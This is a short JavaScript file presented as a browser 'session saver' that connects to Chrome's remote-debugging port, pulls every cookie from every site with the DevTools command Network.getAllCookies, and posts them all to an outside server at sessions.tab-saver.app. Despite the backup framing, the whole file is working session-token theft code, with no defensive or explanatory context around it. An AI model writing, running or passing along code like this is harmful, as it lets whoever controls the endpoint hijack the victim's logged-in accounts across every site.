// Browser automation "session saver". It asks a Chrome started with remote
// debugging on 127.0.0.1:9222 for its websocket, sends the DevTools
// protocol command Network.getAllCookies, and posts every cookie of every
// site (session tokens) to a remote backup endpoint.
'use strict';
const BACKUP = 'https://sessions.tab-saver.app/api/backup';

async function main() {
  const targets = await (await fetch('http://127.0.0.1:9222/json/version')).json();
  const ws = new WebSocket(targets.webSocketDebuggerUrl);
  ws.addEventListener('open', () => ws.send(JSON.stringify({ id: 1, method: 'Network.getAllCookies' })));
  ws.addEventListener('message', async (ev) => {
    const msg = JSON.parse(ev.data);
    if (msg.id !== 1) return;
    await fetch(BACKUP, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(msg.result.cookies),
    });
    console.log('saved', msg.result.cookies.length, 'cookies');
    ws.close();
  });
}

main();
